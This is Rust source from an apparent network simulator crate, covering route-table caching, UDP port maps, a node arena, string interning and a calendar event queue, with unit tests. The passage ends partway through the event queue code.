            return self.lookup_naive(dst);
        }
        let epoch = self.epoch;
        let cache = self.cache.get_or_insert_with(|| {
            // A fresh cache's epoch deliberately mismatches the table's so
            // the first probe takes the rebuild path below.
            Box::new(RouteCache {
                epoch: epoch.wrapping_add(1),
                ..RouteCache::default()
            })
        });
        if cache.epoch != self.epoch {
            cache.map.clear();
            cache.order.clear();
            if self.sorted_stale {
                self.sorted.clear();
                self.sorted.extend(0..self.routes.len() as u32);
                // Stable sort by descending prefix length preserves
                // insertion order inside each length class; scanning in
                // reverse therefore prefers later-inserted routes, the
                // naive scan's tie-break.
                let routes = &self.routes;
                self.sorted.sort_by(|&a, &b| {
                    routes[b as usize]
                        .prefix_len
                        .cmp(&routes[a as usize].prefix_len)
                });
                self.sorted_stale = false;
            }
            cache.epoch = self.epoch;
        }
        if let Some(cached) = cache.map.get(&dst) {
            return *cached;
        }
        let resolved = Self::lookup_sorted(&self.sorted, &self.routes, dst);
        if cache.map.len() >= self.cache_cap {
            if let Some(oldest) = cache.order.pop_front() {
                cache.map.remove(&oldest);
            }
        }
        cache.map.insert(dst, resolved);
        cache.order.push_back(dst);
        resolved
    }

    /// Folds the behavior-bearing routing state into a checkpoint digest:
    /// the route list (in insertion order, which fixes the tie-break) and
    /// the invalidation epoch. The memoized cache is deliberately excluded
    /// — it is observationally transparent, and its contents follow
    /// deterministically from the lookups performed.
    pub(crate) fn state_digest(&self, h: &mut StateHasher) {
        h.write_usize(self.routes.len());
        for r in &self.routes {
            h.write_ip(r.prefix);
            h.write_bytes(&[r.prefix_len]);
            h.write_usize(r.iface.index());
        }
        h.write_u64(self.epoch);
    }

    /// Longest-prefix match over the sorted index table: within each
    /// prefix length class (descending), the later-inserted route wins.
    /// An associated fn over the two slices so `lookup` can call it while
    /// holding a mutable borrow of the cache.
    fn lookup_sorted(sorted: &[u32], routes: &[Route], dst: IpAddr) -> Option<Route> {
        let mut class_start = 0;
        while class_start < sorted.len() {
            let len = routes[sorted[class_start] as usize].prefix_len;
            let class_end = class_start
                + sorted[class_start..]
                    .iter()
                    .take_while(|&&i| routes[i as usize].prefix_len == len)
                    .count();
            if let Some(hit) = sorted[class_start..class_end]
                .iter()
                .rev()
                .map(|&i| routes[i as usize])
                .find(|r| r.matches(dst))
            {
                return Some(hit);
            }
            class_start = class_end;
        }
        None
    }

    #[cfg(test)]
    fn set_cache_cap(&mut self, cap: usize) {
        self.cache_cap = cap;
    }

    #[cfg(test)]
    fn cache_contains(&self, dst: IpAddr) -> bool {
        self.cache.as_ref().is_some_and(|c| c.map.contains_key(&dst))
    }

    #[cfg(test)]
    fn cache_len(&self) -> usize {
        self.cache.as_ref().map_or(0, |c| c.map.len())
    }
}

/// A node's UDP port bindings: port → owning application, stored as a
/// vec sorted by port.
///
/// Nodes bind a handful of ports at most, so a sorted vec beats a hash
/// map: one heap allocation of a few entries instead of a hash table per
/// node (whose header + minimum table dominated the arena row at 100k
/// devices), and iteration is deterministic port order for free.
#[derive(Debug, Clone, Default)]
pub struct PortMap(Vec<(u16, AppId)>);

impl PortMap {
    fn search(&self, port: u16) -> Result<usize, usize> {
        self.0.binary_search_by_key(&port, |e| e.0)
    }

    /// Whether `port` is bound.
    pub fn contains_key(&self, port: &u16) -> bool {
        self.search(*port).is_ok()
    }

    /// The application bound to `port`, if any.
    pub fn get(&self, port: &u16) -> Option<&AppId> {
        self.search(*port).ok().map(|i| &self.0[i].1)
    }

    pub(crate) fn insert(&mut self, port: u16, owner: AppId) {
        match self.search(port) {
            Ok(i) => self.0[i].1 = owner,
            Err(i) => self.0.insert(i, (port, owner)),
        }
    }

    pub(crate) fn remove(&mut self, port: &u16) {
        if let Ok(i) = self.search(*port) {
            self.0.remove(i);
        }
    }

    pub(crate) fn retain(&mut self, mut keep: impl FnMut(&u16, &mut AppId) -> bool) {
        self.0.retain_mut(|(p, a)| keep(p, a));
    }

    /// Bindings in ascending port order.
    pub fn iter(&self) -> impl Iterator<Item = (&u16, &AppId)> {
        self.0.iter().map(|(p, a)| (p, a))
    }

    /// Whether no port is bound.
    pub fn is_empty(&self) -> bool {
        self.0.is_empty()
    }

    /// Number of bound ports.
    pub fn len(&self) -> usize {
        self.0.len()
    }
}

/// Struct-of-arrays arena holding every node's state in dense parallel
/// vectors indexed by [`NodeId::index`].
///
/// The forwarding fast path reads `up` / `forwarding` / `routes` as flat
/// arrays; stats sampling reads `rx_packets` / `rx_bytes` without dragging
/// route tables or bind maps through cache. Names are interned: the arena
/// stores a 4-byte [`NameId`] per node and one shared string pool, so node
/// identity checks are `u32` compares and no hot struct owns a `String`.
///
/// The arena as a whole is `Clone` — `Simulator::fork` deep-copies the
/// parallel vectors in one pass each.
#[derive(Debug, Default, Clone)]
pub(crate) struct Nodes {
    names: NameInterner,
    pub(crate) name_ids: Vec<NameId>,
    pub(crate) up: Vec<bool>,
    /// Whether the node forwards unicast packets not addressed to it.
    pub(crate) forwarding: Vec<bool>,
    /// Whether the node relays multicast out of all other interfaces
    /// (models the LAN fabric / DHCPv6 relay behaviour of the simulated
    /// Internet segment in the paper's topology).
    pub(crate) forward_multicast: Vec<bool>,
    pub(crate) ifaces: Vec<Vec<IfaceId>>,
    pub(crate) routes: Vec<RouteTable>,
    pub(crate) udp_binds: Vec<PortMap>,
    pub(crate) next_ephemeral_port: Vec<u16>,
    /// Packets received and addressed to the node (any transport).
    pub(crate) rx_packets: Vec<u64>,
    /// Wire bytes received and addressed to the node.
    pub(crate) rx_bytes: Vec<u64>,
    /// First v4 address across the node's interfaces, in install order —
    /// memoized because interface address lists are append-only.
    pub(crate) first_v4: Vec<Option<IpAddr>>,
    /// First v6 address, same memoization.
    pub(crate) first_v6: Vec<Option<IpAddr>>,
}

impl Nodes {
    /// Appends a node with every field at its default; returns its index.
    pub(crate) fn push(&mut self, name: &str) -> usize {
        let idx = self.name_ids.len();
        let name_id = self.names.intern(name);
        self.name_ids.push(name_id);
        self.up.push(true);
        self.forwarding.push(false);
        self.forward_multicast.push(false);
        self.ifaces.push(Vec::new());
        self.routes.push(RouteTable::default());
        self.udp_binds.push(PortMap::default());
        self.next_ephemeral_port.push(*EPHEMERAL_RANGE.start());
        self.rx_packets.push(0);
        self.rx_bytes.push(0);
        self.first_v4.push(None);
        self.first_v6.push(None);
        idx
    }

    pub(crate) fn len(&self) -> usize {
        self.name_ids.len()
    }

    /// Resolves a node's interned name.
    pub(crate) fn name(&self, idx: usize) -> &str {
        self.names.resolve(self.name_ids[idx])
    }

    /// Records a newly installed interface address, maintaining the
    /// per-family first-address memo (`node_addr`'s fast path).
    pub(crate) fn note_addr(&mut self, idx: usize, addr: IpAddr) {
        let slot = match addr {
            IpAddr::V4(_) => &mut self.first_v4[idx],
            IpAddr::V6(_) => &mut self.first_v6[idx],
        };
        if slot.is_none() {
            *slot = Some(addr);
        }
    }

    /// Allocates the next free ephemeral UDP port on node `idx`.
    ///
    /// # Panics
    ///
    /// Panics once every port in the 49152..=65535 range is bound: the
    /// scan is bounded to one full wrap of the range rather than spinning
    /// forever.
    pub(crate) fn alloc_ephemeral_port(&mut self, idx: usize) -> u16 {
        let span = usize::from(*EPHEMERAL_RANGE.end() - *EPHEMERAL_RANGE.start()) + 1;
        for _ in 0..span {
            let p = self.next_ephemeral_port[idx];
            self.next_ephemeral_port[idx] = if p == *EPHEMERAL_RANGE.end() {
                *EPHEMERAL_RANGE.start()
            } else {
                p + 1
            };
            if !self.udp_binds[idx].contains_key(&p) {
                return p;
            }
        }
        panic!(
            "node {:?}: ephemeral UDP port space exhausted (all {span} ports in \
             {}..={} are bound)",
            self.name(idx),
            EPHEMERAL_RANGE.start(),
            EPHEMERAL_RANGE.end()
        );
    }

    /// Folds one node's mutable state into a checkpoint digest — the exact
    /// byte sequence the pre-arena per-struct digest produced, so
    /// checkpoints taken before and after the layout change agree. UDP
    /// binds are visited in sorted port order so the digest never depends
    /// on map iteration order.
    pub(crate) fn node_digest(&self, idx: usize, h: &mut StateHasher) {
        h.write_str(self.name(idx));
        h.write_bool(self.up[idx]);
        h.write_bool(self.forwarding[idx]);
        h.write_bool(self.forward_multicast[idx]);
        h.write_usize(self.ifaces[idx].len());
        for i in &self.ifaces[idx] {
            h.write_usize(i.index());
        }
        self.routes[idx].state_digest(h);
        let mut binds: Vec<(u16, AppId)> =
            self.udp_binds[idx].iter().map(|(p, a)| (*p, *a)).collect();
        binds.sort_unstable_by_key(|(p, _)| *p);
        h.write_usize(binds.len());
        for (port, app) in binds {
            h.write_u32(u32::from(port));
            h.write_usize(app.node.index());
            h.write_usize(app.slot());
        }
        h.write_u32(u32::from(self.next_ephemeral_port[idx]));
        h.write_u64(self.rx_packets[idx]);
        h.write_u64(self.rx_bytes[idx]);
    }
}

/// A read-only view of one node in the arena — the public face of the
/// struct-of-arrays layout, returned by `Simulator::node`.
#[derive(Clone, Copy)]
pub struct NodeRef<'a> {
    nodes: &'a Nodes,
    idx: usize,
}

impl<'a> NodeRef<'a> {
    pub(crate) fn new(nodes: &'a Nodes, idx: usize) -> Self {
        NodeRef { nodes, idx }
    }

    /// The node's human-readable name.
    pub fn name(&self) -> &'a str {
        self.nodes.name(self.idx)
    }

    /// Whether the node is up (participating in the network).
    pub fn is_up(&self) -> bool {
        self.nodes.up[self.idx]
    }

    /// Interfaces installed on this node.
    pub fn ifaces(&self) -> &'a [IfaceId] {
        &self.nodes.ifaces[self.idx]
    }

    /// Longest-prefix-match route lookup — the reference linear scan.
    ///
    /// This is the semantic oracle; the simulator's forwarding path uses
    /// the epoch-cached `RouteTable::lookup`, which is proven
    /// observationally identical by `tests/route_cache.rs`.
    pub fn route_for(&self, dst: IpAddr) -> Option<Route> {
        self.nodes.routes[self.idx].lookup_naive(dst)
    }

    /// The node's routes in insertion order.
    pub fn routes(&self) -> &'a [Route] {
        self.nodes.routes[self.idx].as_slice()
    }

    /// Live UDP port bindings (port → owning app).
    pub fn udp_binds(&self) -> &'a PortMap {
        &self.nodes.udp_binds[self.idx]
    }

    /// Packets received and addressed to this node (any transport, bound
    /// port or not) — what a Wireshark capture at the node would count.
    pub fn rx_packets(&self) -> u64 {
        self.nodes.rx_packets[self.idx]
    }

    /// Wire bytes received and addressed to this node.
    pub fn rx_bytes(&self) -> u64 {
        self.nodes.rx_bytes[self.idx]
    }
}

impl std::fmt::Debug for NodeRef<'_> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("NodeRef")
            .field("name", &self.name())
            .field("up", &self.is_up())
            .field("ifaces", &self.ifaces().len())
            .field("routes", &self.routes().len())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::{Ipv4Addr, Ipv6Addr};

    fn v4(a: u8, b: u8, c: u8, d: u8) -> IpAddr {
        IpAddr::V4(Ipv4Addr::new(a, b, c, d))
    }

    fn route(prefix: IpAddr, prefix_len: u8, iface: usize) -> Route {
        Route {
            prefix,
            prefix_len,
            iface: IfaceId::from_index(iface),
        }
    }

    #[test]
    fn prefix_match_v4() {
        assert!(prefix_contains(v4(10, 0, 0, 0), 8, v4(10, 1, 2, 3)));
        assert!(!prefix_contains(v4(10, 0, 0, 0), 8, v4(11, 1, 2, 3)));
        assert!(prefix_contains(v4(10, 0, 1, 0), 24, v4(10, 0, 1, 200)));
        assert!(!prefix_contains(v4(10, 0, 1, 0), 24, v4(10, 0, 2, 1)));
        // Zero-length prefix matches everything in-family.
        assert!(prefix_contains(v4(0, 0, 0, 0), 0, v4(192, 168, 1, 1)));
    }

    #[test]
    fn prefix_match_v6() {
        let p = IpAddr::V6(Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 0, 0));
        let inside = IpAddr::V6(Ipv6Addr::new(0xfd00, 0, 0, 0, 0, 0, 0, 0x42));
        let outside = IpAddr::V6(Ipv6Addr::new(0xfe80, 0, 0, 0, 0, 0, 0, 1));
        assert!(prefix_contains(p, 16, inside));
        assert!(!prefix_contains(p, 16, outside));
    }

    #[test]
    fn prefix_never_matches_cross_family() {
        let p6 = IpAddr::V6(Ipv6Addr::UNSPECIFIED);
        assert!(!prefix_contains(p6, 0, v4(1, 2, 3, 4)));
        assert!(!prefix_contains(v4(0, 0, 0, 0), 0, p6));
    }

    #[test]
    fn longest_prefix_wins() {
        let mut t = RouteTable::default();
        t.push(route(v4(10, 0, 0, 0), 8, 0));
        t.push(route(v4(10, 0, 5, 0), 24, 1));
        assert_eq!(
            t.lookup_naive(v4(10, 0, 5, 9)).map(|r| r.iface),
            Some(IfaceId::from_index(1))
        );
        assert_eq!(
            t.lookup_naive(v4(10, 0, 6, 9)).map(|r| r.iface),
            Some(IfaceId::from_index(0))
        );
        assert!(t.lookup_naive(v4(192, 168, 0, 1)).is_none());
    }

    #[test]
    fn ephemeral_ports_skip_bound() {
        let mut nodes = Nodes::default();
        let idx = nodes.push("h");
        nodes.udp_binds[idx].insert(
            49152,
            AppId {
                node: NodeId::from_index(0),
                slot: 0,
            },
        );
        assert_eq!(nodes.alloc_ephemeral_port(idx), 49153);
        assert_eq!(nodes.alloc_ephemeral_port(idx), 49154);
    }

    #[test]
    #[should_panic(expected = "ephemeral UDP port space exhausted")]
    fn ephemeral_port_exhaustion_panics_instead_of_spinning() {
        let mut nodes = Nodes::default();
        let idx = nodes.push("h");
        let owner = AppId {
            node: NodeId::from_index(0),
            slot: 0,
        };
        for p in EPHEMERAL_RANGE {
            nodes.udp_binds[idx].insert(p, owner);
        }
        let _ = nodes.alloc_ephemeral_port(idx);
    }

    #[test]
    fn cached_lookup_matches_naive_and_survives_invalidation() {
        let mut t = RouteTable::default();
        t.push(route(v4(10, 0, 0, 0), 8, 0));
        t.push(route(v4(10, 0, 5, 0), 24, 1));
        let probes = [v4(10, 0, 5, 9), v4(10, 0, 6, 9), v4(192, 168, 0, 1)];
        for dst in probes {
            assert_eq!(t.lookup(dst), t.lookup_naive(dst), "{dst}");
            // Second probe exercises the cache-hit path.
            assert_eq!(t.lookup(dst), t.lookup_naive(dst), "{dst} (hit)");
        }
        // A more specific route inserted later must evict stale resolutions.
        t.push(route(v4(10, 0, 5, 9), 32, 2));
        assert_eq!(
            t.lookup(v4(10, 0, 5, 9)).map(|r| r.iface),
            Some(IfaceId::from_index(2))
        );
        // Removing it restores the previous resolution.
        assert_eq!(t.remove(v4(10, 0, 5, 9), 32), 1);
        assert_eq!(
            t.lookup(v4(10, 0, 5, 9)).map(|r| r.iface),
            Some(IfaceId::from_index(1))
        );
    }

    #[test]
    fn equal_length_tie_break_prefers_later_insertion_like_naive() {
        let mut t = RouteTable::default();
        for i in 0..3usize {
            t.push(route(v4(10, 0, 0, 0), 8, i));
        }
        let naive = t.lookup_naive(v4(10, 1, 2, 3));
        assert_eq!(naive.map(|r| r.iface), Some(IfaceId::from_index(2)));
        assert_eq!(t.lookup(v4(10, 1, 2, 3)), naive);
    }

    #[test]
    fn cache_evicts_oldest_entry_first_in_fifo_order() {
        let mut t = RouteTable::default();
        // One covering route plus filler /32s to exceed SMALL_TABLE_SCAN so
        // the cache actually engages.
        t.push(route(v4(10, 0, 0, 0), 8, 0));
        for i in 0..SMALL_TABLE_SCAN as u8 {
            t.push(route(v4(172, 16, 0, i), 32, 1));
        }
        t.set_cache_cap(4);
        let d = |i: u8| v4(10, 0, 0, i);
        for i in 1..=4 {
            t.lookup(d(i));
        }
        assert_eq!(t.cache_len(), 4);
        // A cache hit must not refresh FIFO position (FIFO, not LRU).
        t.lookup(d(1));
        assert_eq!(t.cache_len(), 4);
        // Fifth distinct destination evicts the oldest entry — d(1), even
        // though it was just re-probed.
        t.lookup(d(5));
        assert_eq!(t.cache_len(), 4);
        assert!(!t.cache_contains(d(1)));
        for i in 2..=5 {
            assert!(t.cache_contains(d(i)), "d({i}) should survive");
        }
        // Next insert evicts d(2), then d(3): strict insertion order.
        t.lookup(d(6));
        assert!(!t.cache_contains(d(2)));
        t.lookup(d(7));
        assert!(!t.cache_contains(d(3)));
        assert!(t.cache_contains(d(4)));
        // Evicted destinations still resolve correctly on re-probe.
        assert_eq!(t.lookup(d(1)), t.lookup_naive(d(1)));
    }

    #[test]
    fn arena_digest_covers_every_hot_field() {
        let digest_of = |nodes: &Nodes| {
            let mut h = StateHasher::new();
            for idx in 0..nodes.len() {
                nodes.node_digest(idx, &mut h);
            }
            h.finish()
        };
        let mut nodes = Nodes::default();
        let idx = nodes.push("r");
        let base = digest_of(&nodes);
        nodes.forwarding[idx] = true;
        let with_fwd = digest_of(&nodes);
        assert_ne!(base, with_fwd);
        nodes.rx_packets[idx] += 1;
        assert_ne!(with_fwd, digest_of(&nodes));
        // Identical construction sequences digest identically.
        let mut again = Nodes::default();
        let j = again.push("r");
        again.forwarding[j] = true;
        again.rx_packets[j] += 1;
        assert_eq!(digest_of(&nodes), digest_of(&again));
    }
}
