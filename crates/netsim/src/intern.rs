//! Deterministic string interning for node names.
//!
//! At 100k+ devices, per-node owned `String`s are a real cost: 24 bytes of
//! inline `Vec` header plus a separate heap allocation per node, dragged
//! through cache every time the hot path touches the node arena. The
//! interner packs every name into one append-only byte buffer and hands out
//! dense `u32` ids, so the arena stores 4 bytes per node and name equality
//! is an integer compare.
//!
//! **Determinism rule:** ids are assigned in first-intern order and the
//! buffer is append-only, so the same sequence of `intern` calls yields the
//! same ids, the same buffer bytes, and the same `resolve` results on every
//! run. The dedup index uses the seed-free [`FastHasher`], and hash
//! collisions fall back to a byte compare — ids never depend on hash
//! iteration order.

use std::hash::Hasher;

use crate::fastmap::{FastHasher, FastMap};

/// Dense handle for an interned name. `Copy`, 4 bytes, compares as `u32`.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct NameId(pub(crate) u32);

impl NameId {
    /// The id as a dense index into the interner's span table.
    #[inline]
    pub fn index(self) -> usize {
        self.0 as usize
    }
}

/// Append-only, deduplicating string pool.
///
/// Cloning an interner (for [`Simulator::fork`](crate::Simulator::fork))
/// copies the buffer and spans verbatim, so forked worlds resolve ids to
/// identical bytes.
#[derive(Debug, Default, Clone)]
pub struct NameInterner {
    /// All interned names, concatenated.
    buf: String,
    /// `(offset, len)` into `buf`, indexed by `NameId`.
    spans: Vec<(u32, u32)>,
    /// FastHasher(name) -> candidate ids (collision chain; compare bytes).
    dedup: FastMap<u64, Vec<NameId>>,
}

impl NameInterner {
    /// An empty interner.
    pub fn new() -> Self {
        Self::default()
    }

    fn hash(name: &str) -> u64 {
        let mut h = FastHasher::default();
        h.write(name.as_bytes());
        h.finish()
    }

    /// Intern `name`, returning its id. Re-interning an identical string
    /// returns the original id (flyweight: one buffer copy per distinct
    /// name, however many nodes share it).
    pub fn intern(&mut self, name: &str) -> NameId {
        let key = Self::hash(name);
        if let Some(candidates) = self.dedup.get(&key) {
            for &id in candidates {
                if self.resolve(id) == name {
                    return id;
                }
            }
        }
        let offset = u32::try_from(self.buf.len()).expect("interner buffer < 4 GiB");
        let len = u32::try_from(name.len()).expect("name < 4 GiB");
        self.buf.push_str(name);
        let id = NameId(u32::try_from(self.spans.len()).expect("< 2^32 names"));
        self.spans.push((offset, len));
        self.dedup.entry(key).or_default().push(id);
        id
    }

    /// Resolve an id back to its string. Panics on an id from a different
    /// interner generation (out of range).
    #[inline]
    pub fn resolve(&self, id: NameId) -> &str {
        let (offset, len) = self.spans[id.index()];
        &self.buf[offset as usize..(offset + len) as usize]
    }

    /// Number of distinct interned names.
    pub fn len(&self) -> usize {
        self.spans.len()
    }

    /// Whether no names have been interned yet.
    pub fn is_empty(&self) -> bool {
        self.spans.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn intern_resolve_roundtrip() {
        let mut pool = NameInterner::new();
        let a = pool.intern("backbone");
        let b = pool.intern("dev-0");
        assert_eq!(pool.resolve(a), "backbone");
        assert_eq!(pool.resolve(b), "dev-0");
        assert_ne!(a, b);
        assert_eq!(pool.len(), 2);
    }

    #[test]
    fn duplicate_names_share_an_id() {
        let mut pool = NameInterner::new();
        let a = pool.intern("router");
        let b = pool.intern("router");
        assert_eq!(a, b);
        assert_eq!(pool.len(), 1);
    }

    #[test]
    fn ids_are_insertion_ordered_and_stable() {
        // Two interners fed the same sequence assign the same ids: the
        // determinism surface node digests rely on.
        let names = ["a", "dev-1", "a", "dev-2", "dev-1", ""];
        let mut p1 = NameInterner::new();
        let mut p2 = NameInterner::new();
        let ids1: Vec<NameId> = names.iter().map(|n| p1.intern(n)).collect();
        let ids2: Vec<NameId> = names.iter().map(|n| p2.intern(n)).collect();
        assert_eq!(ids1, ids2);
        assert_eq!(ids1[0], ids1[2]);
        assert_eq!(ids1[1], ids1[4]);
        assert_eq!(p1.resolve(ids1[5]), "");
    }

    #[test]
    fn clone_preserves_resolution() {
        let mut pool = NameInterner::new();
        let a = pool.intern("tserver");
        let forked = pool.clone();
        assert_eq!(forked.resolve(a), "tserver");
    }
}
