//! The simulator's event queue: a bucketed calendar queue with an overflow
//! heap, plus the straightforward binary-heap reference model it replaced.
//!
//! # Why not a plain `BinaryHeap`
//!
//! The hot path of a discrete-event network simulator is `push`/`pop` on the
//! future-event set. A binary heap pays `O(log n)` per push with poor cache
//! locality once `n` reaches the hundreds of thousands of pending events a
//! large botnet scenario produces. Most events, however, are scheduled a
//! short, bounded time into the future (transmission completions, MAC slots,
//! per-packet timers), which is the access pattern calendar queues exploit:
//!
//! * a ring of [`NUM_BUCKETS`] buckets, each spanning [`BUCKET_SPAN_NANOS`]
//!   nanoseconds, covers the near future — pushes into the wheel are a plain
//!   `Vec::push`, `O(1)` and cache-friendly;
//! * an **active heap** holds only the events of already-reached buckets, so
//!   its size tracks one bucket's population rather than the whole queue;
//! * an **overflow heap** catches events beyond the wheel horizon (long RTOs,
//!   churn timers); when the wheel runs dry it is repositioned at the
//!   overflow minimum and the now-in-window events cascade into buckets.
//!
//! # Determinism
//!
//! Events are totally ordered by `(time, seq)` where `seq` is the
//! scheduling sequence number the simulator assigns monotonically. Two
//! events at the same tick therefore pop in the order they were scheduled —
//! the invariant the replaced `BinaryHeap<Reverse<Entry>>` provided and the
//! property tests in `tests/queue_equivalence.rs` lock in: for any schedule
//! (including same-tick ties and pushes interleaved with pops), the calendar
//! queue pops in exactly the order of [`ReferenceQueue`].
//!
//! Structural invariant: after `settle`, whenever the active heap is
//! non-empty it contains the global minimum. Wheel events are always
//! `>= bucket_base` and active events `< bucket_base`; overflow events can
//! fall behind the cursor while the wheel stays busy (the cursor advances a
//! bucket span past every drained bucket), so `settle` first sweeps any
//! overflow event with `time < bucket_base` into the active heap.
//! `bucket_base` itself is always a bucket-span multiple and only advances.

use crate::time::SimTime;
use std::cmp::Reverse;
use std::collections::BinaryHeap;

/// log2 of the bucket width: buckets span 2^16 ns ≈ 65.5 µs.
const BUCKET_BITS: u32 = 16;
/// Width of one calendar bucket in nanoseconds.
pub const BUCKET_SPAN_NANOS: u64 = 1 << BUCKET_BITS;
/// Number of buckets in the ring (must stay a power of two); the wheel
/// covers ≈ 67 ms of near future.
pub const NUM_BUCKETS: usize = 1024;
const BUCKET_MASK: usize = NUM_BUCKETS - 1;

/// An event plus its total-order key. Ordering ignores the payload.
struct Keyed<T> {
    time_nanos: u64,
    seq: u64,
    item: T,
}

impl<T> Keyed<T> {
    fn key(&self) -> (u64, u64) {
        (self.time_nanos, self.seq)
    }
}

impl<T> PartialEq for Keyed<T> {
    fn eq(&self, other: &Self) -> bool {
        self.key() == other.key()
    }
}
impl<T> Eq for Keyed<T> {}
impl<T> PartialOrd for Keyed<T> {
    fn partial_cmp(&self, other: &Self) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}
impl<T> Ord for Keyed<T> {
    fn cmp(&self, other: &Self) -> std::cmp::Ordering {
        self.key().cmp(&other.key())
    }
}

/// Minimal interface both queue implementations share, so equivalence tests
/// and benchmarks can drive either through one code path.
pub trait TimeOrderedQueue<T> {
    /// Inserts an event with its `(time, seq)` key.
    fn push(&mut self, time: SimTime, seq: u64, item: T);
    /// Key of the earliest event without removing it.
    fn peek_key(&mut self) -> Option<(SimTime, u64)>;
    /// Removes and returns the earliest event.
    fn pop(&mut self) -> Option<(SimTime, u64, T)>;
    /// Number of pending events.
    fn len(&self) -> usize;
    /// Whether the queue is empty.
    fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

/// The production event queue: calendar wheel + active heap + overflow heap.
pub struct EventQueue<T> {
    /// Events with `time < bucket_base`, popped in `(time, seq)` order.
    active: BinaryHeap<Reverse<Keyed<T>>>,
    /// Ring of near-future buckets; `buckets[head]` starts at `bucket_base`.
    buckets: Vec<Vec<Keyed<T>>>,
    head: usize,
    /// Start (nanos) of the bucket at `head`; multiple of the bucket span.
    bucket_base: u64,
    /// Total events currently in `buckets`.
    wheel_len: usize,
    /// Events at or beyond the wheel horizon.
    overflow: BinaryHeap<Reverse<Keyed<T>>>,
    len: usize,
    peak_len: usize,
    /// Overdue-overflow sweeps performed (events that had to be rescued
    /// from the overflow heap after the cursor passed them).
    overflow_sweeps: u64,
}

impl<T> std::fmt::Debug for EventQueue<T> {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("EventQueue")
            .field("len", &self.len)
            .field("peak_len", &self.peak_len)
            .field("bucket_base", &self.bucket_base)
            .finish_non_exhaustive()
    }
}

impl<T> Default for EventQueue<T> {
    fn default() -> Self {
        Self::new()
    }
}

impl<T> EventQueue<T> {
    /// An empty queue with its wheel positioned at time zero.
    pub fn new() -> Self {
        let mut buckets = Vec::with_capacity(NUM_BUCKETS);
        buckets.resize_with(NUM_BUCKETS, Vec::new);
        EventQueue {
            active: BinaryHeap::new(),
            buckets,
            head: 0,
            bucket_base: 0,
            wheel_len: 0,
            overflow: BinaryHeap::new(),
            len: 0,
            peak_len: 0,
            overflow_sweeps: 0,
        }
    }

    /// Largest number of events that were ever pending simultaneously.
    pub fn peak_len(&self) -> usize {
        self.peak_len
    }

    /// How many events have been swept from the overflow heap into the
    /// active heap because the cursor had already advanced past them.
    /// A rising count under load flags schedules that defeat the wheel
    /// (telemetry records a `queue_sweep` event per increase).
    pub fn overflow_sweeps(&self) -> u64 {
        self.overflow_sweeps
    }

    /// Visits every pending entry as `(time_nanos, seq, &item)`, in
    /// arbitrary order (active heap, wheel buckets, then overflow).
    /// Checkpoint digests collect the entries and sort by `(time, seq)`;
    /// the queue's own pop order is never derived from this.
    pub fn for_each_entry(&self, mut f: impl FnMut(u64, u64, &T)) {
        for Reverse(e) in self.active.iter() {
            f(e.time_nanos, e.seq, &e.item);
        }
        for bucket in &self.buckets {
            for e in bucket {
                f(e.time_nanos, e.seq, &e.item);
            }
        }
        for Reverse(e) in self.overflow.iter() {
            f(e.time_nanos, e.seq, &e.item);
        }
    }

    /// Structural clone: maps every pending item through `f` (as
    /// `(time_nanos, seq, &item)`), preserving the cursor and counter
    /// state exactly — `head`, `bucket_base`, per-bucket placement,
    /// `peak_len`, and `overflow_sweeps`. Forking must not re-push into a
    /// fresh queue: that would reset the cursor and the sweep counter,
    /// changing both future overflow-sweep telemetry and the stats digest
    /// relative to the parent. Fails on the first item `f` rejects.
    ///
    /// # Errors
    ///
    /// Propagates the first error returned by `f`.
    pub fn try_clone_with<E>(
        &self,
        mut f: impl FnMut(u64, u64, &T) -> Result<T, E>,
    ) -> Result<Self, E> {
        let mut clone_keyed = |e: &Keyed<T>| -> Result<Keyed<T>, E> {
            Ok(Keyed {
                time_nanos: e.time_nanos,
                seq: e.seq,
                item: f(e.time_nanos, e.seq, &e.item)?,
            })
        };
        // Heap-internal arrangement after re-pushing may differ from the
        // parent's, but keys are unique (the simulator never reuses a
        // seq), so pop order — the only observable — is identical.
        let mut active = BinaryHeap::with_capacity(self.active.len());
        for Reverse(e) in &self.active {
            active.push(Reverse(clone_keyed(e)?));
        }
        let mut buckets = Vec::with_capacity(self.buckets.len());
        for bucket in &self.buckets {
            let mut b = Vec::with_capacity(bucket.len());
            for e in bucket {
                b.push(clone_keyed(e)?);
            }
            buckets.push(b);
        }
        let mut overflow = BinaryHeap::with_capacity(self.overflow.len());
        for Reverse(e) in &self.overflow {
            overflow.push(Reverse(clone_keyed(e)?));
        }
        Ok(EventQueue {
            active,
            buckets,
            head: self.head,
            bucket_base: self.bucket_base,
            wheel_len: self.wheel_len,
            overflow,
            len: self.len,
            peak_len: self.peak_len,
            overflow_sweeps: self.overflow_sweeps,
        })
    }

    fn push_keyed(&mut self, e: Keyed<T>) {
        if e.time_nanos < self.bucket_base {
            self.active.push(Reverse(e));
        } else {
            let offset = (e.time_nanos - self.bucket_base) >> BUCKET_BITS;
            if offset < NUM_BUCKETS as u64 {
                let idx = (self.head + offset as usize) & BUCKET_MASK;
                self.buckets[idx].push(e);
                self.wheel_len += 1;
            } else {
                self.overflow.push(Reverse(e));
            }
        }
    }

    /// Moves events into the active heap until it holds the global minimum
    /// (or proves the queue empty). Returns `false` iff the queue is empty.
    fn settle(&mut self) -> bool {
        loop {
            // Overflow events the cursor has advanced past are overdue: they
            // sort before anything still in the wheel, so they must join the
            // active heap *before* this peek/pop, not when the wheel next
            // runs dry. (An event parked beyond the horizon stays in
            // overflow while the wheel keeps busy; without this sweep it
            // would pop after later-scheduled wheel events.)
            while let Some(Reverse(e)) = self.overflow.peek() {
                if e.time_nanos >= self.bucket_base {
                    break;
                }
                let Some(Reverse(e)) = self.overflow.pop() else {
                    unreachable!("peeked entry exists");
                };
                self.active.push(Reverse(e));
                self.overflow_sweeps += 1;
            }
            if !self.active.is_empty() {
                return true;
            }
            if self.wheel_len > 0 {
                // Advance the cursor to the next populated bucket and drain
                // it into the active heap. Bounded by NUM_BUCKETS steps.
                loop {
